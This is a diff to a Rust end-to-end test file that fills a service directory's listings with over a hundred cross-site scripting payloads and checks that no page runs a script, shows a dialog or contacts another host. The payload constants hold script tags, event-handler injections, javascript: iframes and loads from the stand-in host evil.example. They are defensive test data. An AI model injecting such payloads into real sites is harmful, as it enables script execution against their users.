@@ -1,15 +1,19 @@
 //! Text that agencies publish and people type is text: it runs nothing and asks for nothing.
 
+use std::collections::BTreeSet;
+
 use fantoccini::Locator;
 use fantoccini::error::CmdError;
 use referral_core::catalog::Record;
 use referral_core::text::{Name, Text};
 
-use crate::browser::Browser;
+use crate::browser::{Browser, Scripts};
 use crate::listing::Listing;
+use crate::operator::operator;
+use crate::routes::routes;
 use crate::site::Site;
 
-/// What would run in a page that let it.
+/// What would run in a page that let it; more is in [`payloads`].
 const PAYLOADS: [&str; 24] = [
     "<script>alert(1)</script>",
     "</h3><script src=//evil.example/x.js></script>",
@@ -37,37 +41,116 @@ const PAYLOADS: [&str; 24] = [
     "&lt;script&gt;alert(1)&lt;/script&gt;<!--",
 ];
 
-#[tokio::test]
-async fn hostile_listings_run_nothing_and_ask_for_nothing() {
-    let listings: Vec<Listing> = (0..PAYLOADS.len())
+/// What leads out of where a text may stand, and what does harm there.
+const OUT: [&str; 12] = [
+    "\">",
+    "'>",
+    "` ",
+    "</title>",
+    "</textarea>",
+    "</script>",
+    "</style>",
+    "</option></select>",
+    "-->",
+    "]]>",
+    "</a></h3></article>",
+    "\u{1f600}",
+];
+const INTO: [&str; 7] = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe src=javascript:alert(1)>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<input autofocus onfocus=alert(1)>",
+    "<video src=//evil.example/x.mp4 onerror=alert(1)>",
+];
+
+/// Each of them once.
+fn payloads() -> Vec<String> {
+    let pairs = OUT
+        .iter()
+        .flat_map(|out| INTO.map(|into| format!("{out}{into}")));
+    let all: BTreeSet<String> = pairs.chain(PAYLOADS.map(str::to_owned)).collect();
+    assert!(all.len() >= 100, "{} payloads", all.len());
+    all.into_iter().collect()
+}
+
+/// A directory with a service for each payload, which stands in every text of it.
+fn poisoned(payloads: &[String]) -> Site {
+    let listings: Vec<Listing> = (0..payloads.len())
         .map(|n| {
             Listing::new(&format!("s{n}"), &format!("hostile {n}")).at("100 Light St", "21202")
         })
         .collect();
-    let site = Site::of_changed(&listings, poison);
+    Site::of_changed(&listings, |record| poison(record, payloads))
+}
+
+async fn see(browser: &Browser, site: &Site, path: &str) {
+    let url = format!("{}{path}", site.url);
+    browser.page.goto(&url).await.expect("the page");
+    stays_quiet(browser, site).await;
+}
+
+#[tokio::test]
+async fn hostile_listings_run_nothing_and_ask_for_nothing() {
+    let payloads = payloads();
+    let site = poisoned(&payloads);
     let browser = Browser::start().await;
 
     // What would help names the best of them; then all of them, page after page.
-    for page in ["/?near=21202", "/?near=21202&availability=any"] {
-        let url = format!("{}{page}", site.url);
-        browser.page.goto(&url).await.expect("the page");
-        stays_quiet(&browser, &site).await;
-    }
+    see(&browser, &site, "/?near=21202").await;
+    see(&browser, &site, "/?near=21202&availability=any").await;
     let mut shown = browser.texts("#answer article h3").await;
-    let next = browser.wait_for("button[name=page]").await;
-    next.click().await.expect("a click");
-    let last = format!(
-        "//p[@role='status'][contains(., '21 to {}')]",
-        PAYLOADS.len()
-    );
-    browser.wait(Locator::XPath(&last)).await;
-    stays_quiet(&browser, &site).await;
-    shown.extend(browser.texts("#answer article h3").await);
-    assert_eq!(shown.len(), PAYLOADS.len());
-    assert!(
-        shown.iter().all(|name| PAYLOADS.contains(&name.as_str())),
-        "{shown:?}"
-    );
+    while shown.len() < payloads.len() {
+        let next = browser.wait_for("button[name=page]").await;
+        next.click().await.expect("a click");
+        let first = format!(
+            "//p[@role='status'][contains(., '{} to ')]",
+            shown.len() + 1
+        );
+        browser.wait(Locator::XPath(&first)).await;
+        stays_quiet(&browser, &site).await;
+        shown.extend(browser.texts("#answer article h3").await);
+    }
+    shown.sort_unstable();
+    assert_eq!(shown, payloads, "each is shown as it was written");
+    for number in 0..payloads.len() {
+        see(&browser, &site, &format!("/service/harbor/s{number}")).await;
+    }
+}
+
+#[tokio::test]
+async fn no_page_runs_what_is_in_a_listing_whoever_looks() {
+    let payloads = payloads();
+    let site = poisoned(&payloads);
+    let pages = [
+        "/travel?near=21202&availability=any",
+        "/handout?near=21202&availability=any&write=en",
+        "/handout?near=21202&availability=any&write=ar",
+        "/pack?near=21202",
+        "/service/harbor/s0",
+        "/operator/agency/harbor",
+        "/coverage?state=MD",
+        "/coverage/county/24510",
+    ];
+    let anybody = Browser::start().await;
+    let operator = operator(site.directory(), "ana@example.org", Scripts::On).await;
+    for browser in [&anybody, &operator] {
+        let _earlier = (browser.complaints().await, browser.requests().await);
+        for path in routes("directory-server/src/web") {
+            // Files that a browser keeps, an answer that never ends, and one that leads to another host.
+            let is_page = !path.contains('.') && path != "/live" && path != "/sign-in/provider";
+            if is_page {
+                let url = format!("{}{path}", site.url);
+                browser.page.goto(&url).await.expect("an answer");
+                asks_nobody_else(browser, &site).await;
+            }
+        }
+        for page in pages {
+            see(browser, &site, page).await;
+        }
+    }
 }
 
 #[tokio::test]
@@ -126,8 +209,17 @@ async fn the_check_itself_sees_a_script_a_dialog_and_a_stranger() {
     assert!(requests.contains("evil.example"), "{requests}");
 }
 
-/// No dialog, no refused script or picture, no request to anybody else.
+/// No dialog, no refused script or picture, no request to anybody else; and it is a page.
 async fn stays_quiet(browser: &Browser, site: &Site) {
+    let requests = asks_nobody_else(browser, site).await;
+    assert!(
+        requests.iter().any(|url| url.ends_with("/style.css")),
+        "{requests:?}"
+    );
+}
+
+/// The same of any answer. Gives what it asked for.
+async fn asks_nobody_else(browser: &Browser, site: &Site) -> Vec<String> {
     let dialog = browser.page.get_alert_text().await;
     assert!(
         matches!(&dialog, Err(CmdError::Standard(error)) if error.error() == "no such alert"),
@@ -136,25 +228,23 @@ async fn stays_quiet(browser: &Browser, site: &Site) {
     let complaints = browser.complaints().await;
     let complaints: Vec<&String> = complaints
         .iter()
-        .filter(|complaint| !complaint.contains("400 (Bad Request)"))
+        .filter(|complaint| !complaint.contains("the server responded with a status of 4"))
         .collect();
     assert!(complaints.is_empty(), "{complaints:#?}");
     let requests = browser.requests().await;
-    assert!(
-        requests.iter().any(|url| url.ends_with("/style.css")),
-        "{requests:?}"
-    );
     let strangers: Vec<&String> = requests
         .iter()
-        .filter(|url| !url.starts_with(&site.url))
+        // What the browser itself draws, such as the calendar of a date, is nobody else.
+        .filter(|url| !url.starts_with(&site.url) && !url.starts_with("data:"))
         .collect();
     assert!(strangers.is_empty(), "{strangers:?}");
+    requests
 }
 
 /// Puts a payload into every text of a record.
-fn poison(record: &mut Record) {
+fn poison(record: &mut Record, payloads: &[String]) {
     let number = |id: &str| id.trim_start_matches('s').parse::<usize>();
-    let payload = PAYLOADS[number(record.id().as_str()).expect("a number") % PAYLOADS.len()];
+    let payload = &payloads[number(record.id().as_str()).expect("a number") % payloads.len()];
     let name = Name::parse(payload).expect("a name");
     let text = Text::parse(payload).expect("a text");
     match record {
